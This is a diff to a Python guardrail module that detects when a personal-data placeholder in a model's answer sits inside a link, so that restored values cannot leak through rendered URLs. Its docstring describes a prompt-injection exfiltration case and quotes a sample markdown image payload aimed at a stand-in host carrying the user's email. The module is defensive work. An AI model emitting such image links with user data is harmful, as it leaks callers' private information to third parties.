@@ -3,10 +3,12 @@ placeholder as it is (``pii.restore_in_links: false``, the default), so that an 
 prompt injection shaped (``![x](https://evil.example/?q=<EMAIL_1>)``) cannot carry the
 caller's value to a third party when a chat UI renders it (an image loads with no click).
 
-The decision reads only the text *before* the placeholder, at most ``WINDOW`` characters of
-it, in the model's own text (placeholders not yet restored). So a stream decides exactly as
-the whole answer does, whatever its deltas, and needs to hold back nothing more than a
-placeholder cut in half: the left context is text already sent.
+The decision reads only the text *before* the placeholder, in the model's own text
+(placeholders not yet restored): at most ``WINDOW`` characters of it, and one small state
+carried over the whole answer (whether it is inside an ``<...>`` destination). So a stream
+decides exactly as the whole answer does, whatever its deltas, and needs to hold back
+nothing more than a placeholder cut in half: the left context is text already sent. Each
+decision costs time linear in the window (no step rereads it per character).
 
 A placeholder is in a link when, in that window:
 
@@ -26,9 +28,11 @@ A placeholder is in a link when, in that window:
   ``action=``, ...; a ``href=`` written inside another attribute's quoted value is none), or
   a CSS ``url(``;
 - or the window holds no space at all (spaces are ASCII ones: a no-break space does not end
-  a URL for a markdown renderer) (a run longer than the window is never trusted), or, full,
-  it is one line with no ``<`` or ``>`` (it may be inside an ``<...>`` destination opened
-  before it).
+  a URL for a markdown renderer) (a run longer than the window is never trusted);
+- or, reading the whole text before it (``link_state.AngleState``, carried along in one
+  pass), it is inside an ``<...>`` destination (``](<``, ``]: <``) not yet closed by its
+  ``>`` or a blank line, however far back it was opened (such a one can hold spaces), or
+  inside a quoted value (``="...``, an HTML attribute's maybe) opened before the window.
 
 ``json`` mode reads a tool call's arguments (JSON text): the context is the JSON string the
 placeholder sits in (back to its opening, unescaped quote), its escapes decoded (``\\/``,
@@ -41,6 +45,9 @@ from __future__ import annotations
 import json as jsonlib
 import re
 import string
+from collections.abc import Callable
+
+from farebox.guardrails.link_state import AngleState
 
 WINDOW = 2048  # characters of left context a decision reads
 MAX_TARGETS = 16  # markdown targets open at once past which an answer is taken as a link
@@ -49,17 +56,19 @@ _SCHEMES = (
     "magnet|callto|im|xmpp|sips?|facetime|skype|whatsapp|tg|intent|market|itms-services|"
     "ipfs|ipns|gopher|irc|ircs|news|nntp|ldap|ssh|sftp|git|svn|rtsp|webcal|feed"
 )
-_URLISH = re.compile(
-    r"//"
-    rf"|(?<![a-z0-9+.\-])(?:{_SCHEMES}):(?![\"'])"
-    r"|(?<![a-z0-9\-])www\."
-    r"|[a-z0-9\-]\.[a-z]{2,63}[/?#]"
-    r"|%[0-9a-f]{2}",
-    re.IGNORECASE,
-)
+_SCHEME_SET = frozenset(re.sub(r"([\w\-]+)s\?", r"\1|\1s", _SCHEMES).split("|"))
+# on the lower-cased text (``_LOWER``), so no IGNORECASE (an alternation of 50 schemes read
+# case-insensitively at each position cost a millisecond per window)
+_WWW = re.compile(r"(?<![a-z0-9\-])www\.")
+_HOST_PATH = re.compile(r"[a-z0-9\-]\.[a-z]{2,63}[/?#]")
+_PERCENT = re.compile(r"%[0-9a-f]{2}")
+# a scheme is the whole run of scheme characters before a ``:`` (each run read once)
+_SCHEME_AT = re.compile(r"(?<![a-z0-9+.\-])([a-z0-9+.\-]+):(?![\"'])")
 _ATTRS = ("href", "src", "srcset", "action", "formaction", "poster", "background", "cite",
           "ping", "codebase", "longdesc", "lowsrc", "dynsrc", "data")  # fmt: skip
 _ATTR_AT = re.compile(rf"(?:{'|'.join(_ATTRS)})\s*=\s*", re.IGNORECASE)  # matched where found
+# the same, on the lower-cased text, where the name starts a word (what ``_last_attr`` checks)
+_ATTR_START = re.compile(rf"(?<![\w\-])(?:{'|'.join(_ATTRS)})\s*=\s*")
 _UNQUOTED_END = re.compile(r"[\s>]")
 # a URL attribute and its value, whole (a group matched: closed), so a search skips the value
 _ATTR_VALUE = re.compile(
@@ -68,57 +77,74 @@ _ATTR_VALUE = re.compile(
     re.IGNORECASE,
 )
 SPACES = " \t\n\r\f\v"  # ASCII only: a markdown renderer runs a URL through a no-break space
-_LOWER = str.maketrans(string.ascii_uppercase, string.ascii_lowercase)  # keeps the length
-_JSON_TOKEN = re.compile(r'\\(.)|"', re.DOTALL)
+# keeps the length; the four non-ASCII letters that IGNORECASE's [a-z] took too, folded
+_LOWER = str.maketrans(string.ascii_uppercase + "\u0130\u0131\u017f\u212a",
+                       string.ascii_lowercase + "iisk")  # fmt: skip
+_LAST_QUOTE = re.compile(r'"(?:\\\\)*+(?!\\)')  # on the reversed text
 _JSON_ESCAPE = re.compile(r"\\(u[0-9a-fA-F]{4}|.)", re.DOTALL)
 _JSON_SIMPLE = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f", "/": "/", "\\": "\\",
                 '"': '"'}  # fmt: skip
+_LAST_SPACE = re.compile(r"[ \t\n\r\f\v](?!\\)")  # on the reversed text: not after a \\
 _AUTOLINK = re.compile(r"<[^<>\s]+\Z")  # an autolink not yet closed: ``<x-app:...``, ``<a?b=``
-_PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*_\d{1,12}>")
 # what a markdown target's state reads: escapes, placeholders, openers, blank lines, brackets
 _SIMPLE = r"\]\([^\s()<>\\]*\)"  # a simple inline target, whole: ``](url)``
 _OPENS = r"\][ \t]*\n?[ \t]*[(:]"
 _MD_OPENER = re.compile(rf"(?!{_SIMPLE}){_OPENS}")  # the next target left open
+_Find = Callable[[str, int], "re.Match[str] | None"]
+_MD_SKIP: dict[str, _Find] = {}  # by the kinds read: see ``_md_token``
 _MD_TOKEN = re.compile(
     rf"\\[\s\S]|<[A-Z][A-Z0-9_]*_\d{{1,12}}>|{_SIMPLE}|{_OPENS}|\n[ \t]*\n|[<>()\n]"
 )
 
 
-def in_link(before: str, json: bool = False) -> bool:
+def in_link(before: str, json: bool = False, angle: bool | None = None) -> bool:
     """Whether a placeholder right after ``before`` (the text before it, of which the last
-    ``WINDOW`` characters are read) sits inside a link."""
+    ``WINDOW`` characters are read) sits inside a link. ``angle``: whether the whole text
+    before it ends inside an ``<...>`` destination, or a quoted value opened before the
+    window (``link_state.AngleState.inside``, which a caller reading many placeholders in
+    order carries along); None: read ``before`` for it."""
+    if angle is None:
+        angle = AngleState(json).fed(before).inside(WINDOW)
     window = before[-WINDOW:]
     full = len(window) >= WINDOW
     if json:
         window, quoted = _json_string(window, full)
         full = full and not quoted
-    return _in_text(window, full)
+    return angle or _in_text(window, full)
 
 
 def _in_text(window: str, full: bool) -> bool:
     """``in_link`` on plain text (``full``: the window may start inside a longer run)."""
-    start = _run_start(window)
+    start = run_start(window)
     if full and start == 0:
         return True  # no space in the whole window: a run too long to trust
-    if _URLISH.search(window, start) or _AUTOLINK.search(window, start):
-        return True
     lower = window.translate(_LOWER)
+    if _urlish(lower, start) or ("<" in window[start:] and _AUTOLINK.search(window, start)):
+        return True
     if _open_attr(window, lower) or _open_css(lower):
         return True
     text = window.replace("\r\n", "\n").replace("\r", "\n")
-    return _open_target(text) or (full and _open_angle(text))
+    return _open_target(text)
 
 
-def _run_start(window: str) -> int:
+def _urlish(lower: str, start: int) -> bool:
+    """The run from ``start`` looks like a URL (``lower``: the window lower-cased)."""
+    run = lower[start:]  # after a space: what the look-behinds read before it is no letter
+    return (
+        "//" in run
+        or ("www." in run and _WWW.search(run) is not None)
+        or ("." in run and _HOST_PATH.search(run) is not None)
+        or ("%" in run and _PERCENT.search(run) is not None)
+        or (":" in run and any(m.group(1) in _SCHEME_SET for m in _SCHEME_AT.finditer(run)))
+    )
+
+
+def run_start(window: str) -> int:
     """Where the run of non-space characters before the end of ``window`` starts: a space
-    escaped by a backslash does not end it (a markdown destination goes on past one)."""
-    end = len(window)
-    while True:
-        at = max(window.rfind(c, 0, end) for c in SPACES)
-        if at > 0 and window[at - 1] == "\\":
-            end = at - 1
-            continue
-        return at + 1
+    escaped by a backslash does not end it (a markdown destination goes on past one). One
+    pass: the first unescaped space of the reversed window."""
+    m = _LAST_SPACE.search(window[::-1])
+    return 0 if m is None else len(window) - m.start()
 
 
 def _json_string(window: str, full: bool) -> tuple[str, bool]:
@@ -128,10 +154,8 @@ def _json_string(window: str, full: bool) -> tuple[str, bool]:
     if full:
         lead = len(window) - len(window.lstrip("\\"))
         window = window[lead + 1 :]
-    opening = -1
-    for m in _JSON_TOKEN.finditer(window):
-        if m.group(0) == '"':
-            opening = m.end()
+    m = _LAST_QUOTE.search(window[::-1])  # after an even run of backslashes: unescaped
+    opening = -1 if m is None else len(window) - m.start()
     content = window[opening:] if opening >= 0 else window
     if "\\" not in content:
         return content, opening >= 0
@@ -162,20 +186,104 @@ def _open_target(text: str) -> bool:
     if text.find("]", start) < 0:
         return False
     targets: list[_Target] = []
-    pos = start
-    while (m := (_MD_TOKEN if targets else _MD_OPENER).search(text, pos)) is not None:
-        token, at, pos = m.group(0), m.start(), m.end()
+    pos, reads = start, ""  # reads: the kinds of token that change a target (but the last)
+    parens = _Parens(targets)
+    while (m := _md_token(targets, reads)(text, pos)) is not None:
+        token, at, pos = m.group(m.lastindex or 0), m.start(m.lastindex or 0), m.end()
+        if token[0] in "()" and len(token) > 1:  # a run of them, from the skipping search
+            done = parens.run(token)
+            if done == len(token):
+                continue
+            token, at, pos = token[done], at + done, at + done + 1  # the one that closes
         if token[0] == "\n" and len(token) > 1:
             targets.clear()  # a blank line ends the paragraph, and any link in it
             continue
         opener = token[0] == "]" and token[-1] != ")"  # else a whole simple ``](url)``
         kind = token[-1] if opener else "p" if len(token) > 1 else token
+        if not opener and targets[-1].angle:
+            if kind not in reads:
+                continue  # no target reads it (the search skips most of these at once)
+            if kind in "()" and parens.step(kind):
+                continue  # parentheses in inline targets past their lead: none closed
+        parens.flush()
         targets = [t for t in targets if t.see(text, kind, at)]
         if opener:
             if len(targets) >= MAX_TARGETS:
                 return True
             targets.append(_Target(kind == "(", pos))
-    return any(t.open(text) for t in targets)
+        reads, parens = _reads(targets), _Parens(targets)
+    run = run_start(text) if targets else 0  # once: each target compares against it
+    return any(t.open(text, run) for t in targets)
+
+
+def _md_token(targets: list[_Target], reads: str) -> _Find:
+    """How to find the next token that changes ``targets``: openers alone when none is
+    open; every token when the last one waits for its destination; else (``_MD_SKIP``) the
+    tokens others read, one match stepping over the rest as ``_MD_TOKEN`` would."""
+    if not targets:
+        return _MD_OPENER.search
+    if not targets[-1].angle:
+        return _MD_TOKEN.search
+    key = "".join(sorted(set(reads)))
+    if key not in _MD_SKIP:
+        rest = key.replace("(", "").replace(")", "")
+        wanted = rf"{_OPENS}|\n[ \t]*\n" + ("|[()]+" if "(" in key else "")
+        wanted += f"|[{re.escape(rest)}]" if rest else ""
+        skipped = rf"\\[\s\S]|<[A-Z][A-Z0-9_]*_\d{{1,12}}>|{_SIMPLE}|(?!{wanted})[\s\S]"
+        _MD_SKIP[key] = re.compile(rf"(?:{skipped})*+({wanted})").match  # match: no rescans
+    return _MD_SKIP[key]
+
+
+class _Parens:
+    """Parentheses read by the inline targets past their lead, counted once for all of them
+    (not once per target): each one's depth is its own plus ``pending``, which ``flush``
+    adds before any target reads another token."""
+
+    __slots__ = ("counting", "low", "pending")
+
+    def __init__(self, targets: list[_Target]) -> None:
+        self.counting = [t for t in targets if t.paren and t.angle > 1]
+        self.low = min((t.depth for t in self.counting), default=2)
+        self.pending = 0
+
+    def step(self, kind: str) -> bool:
+        """Read ``(`` or ``)``; False (nothing read) when a ``)`` would close a target."""
+        if kind == "(":
+            self.pending += 1
+            return True
+        if self.low + self.pending > 1:
+            self.pending -= 1
+            return True
+        return False
+
+    def run(self, parens: str) -> int:
+        """Read a run of parentheses: how many were read before one that closes a target."""
+        if ")" not in parens:
+            self.pending += len(parens)
+            return len(parens)
+        for i, kind in enumerate(parens):
+            if not self.step(kind):
+                return i
+        return len(parens)
+
+    def flush(self) -> None:
+        if self.pending:
+            for t in self.counting:
+                t.depth += self.pending
+            self.pending = 0
+
+
+def _reads(targets: list[_Target]) -> str:
+    """The kinds of token (openers aside) that change one of ``targets`` past its lead: ``>``
+    one inside an ``<...>`` destination, parentheses an inline one past it, a line ending a
+    reference definition's."""
+    out = ""
+    for t in targets:
+        if t.angle == 1:
+            out += ">"
+        elif t.angle > 1:
+            out += "()" if t.paren else "\n"
+    return out
 
 
 class _Target:
@@ -217,9 +325,12 @@ class _Target:
             self.angle, self.at = 1, at + 1
         elif kind != "\n":
             self.angle, self.at = 3, at
+        else:
+            self.at = at + 1  # only spaces so far: never read them again
 
-    def open(self, text: str) -> bool:
-        """Whether a placeholder at the end of ``text`` is in this target."""
+    def open(self, text: str, run: int) -> bool:
+        """Whether a placeholder at the end of ``text`` (its run starting at ``run``) is in
+        this target."""
         if self.paren or self.angle in (1, 2):
             return True
         at = self.at
@@ -228,16 +339,7 @@ class _Target:
             if not rest:
                 return True  # the placeholder starts the destination
             at = len(text) - len(rest)
-        return _run_start(text) <= at  # a plain destination ends at a space
-
-
-def _open_angle(text: str) -> bool:
-    """A full window on one line with no ``<`` or ``>`` (placeholders aside): it may be
-    inside an ``<...>`` destination opened before it (such a one can hold spaces)."""
-    if "\n" in text:
-        return False
-    plain = _PLACEHOLDER.sub("", text)
-    return "<" not in plain and ">" not in plain
+        return run <= at  # a plain destination ends at a space
 
 
 def _open_attr(window: str, lower: str) -> bool:
@@ -270,16 +372,22 @@ def _value_end(text: str, at: int) -> int:
 def _last_attr(window: str, lower: str) -> str | None:
     """The text after the last ``name=`` of a URL attribute in ``window`` (``lower``: the
     same, lower-cased), or None: found by ``rfind`` (a regex search over the whole window
-    costs ten times more, for each placeholder)."""
-    end = len(lower)
-    while True:
-        at = max(lower.rfind(name, 0, end - 1 + len(name)) for name in _ATTRS)
+    costs ten times more, for each placeholder). Each name's ``rfind`` goes on from its own
+    last miss, so the window is read once per name, however many false starts it holds."""
+    found = {name: lower.rfind(name) for name in _ATTRS}
+    for _ in range(8):
+        name = max(found, key=found.__getitem__)
+        at = found[name]
         if at < 0:
             return None
         m = _ATTR_AT.match(window, at)
         if m is not None and (at == 0 or not (lower[at - 1].isalnum() or lower[at - 1] in "_-")):
             return window[m.end() :]
-        end = at
+        found[name] = lower.rfind(name, 0, at - 1 + len(name))
+    last = None  # many false starts (``srcsrc...``): one regex pass finds the last one
+    for last in _ATTR_START.finditer(lower):  # noqa: B007 (the last one is read)
+        pass
+    return None if last is None else window[last.end() :]
 
 
 def _open_css(lower: str) -> bool:
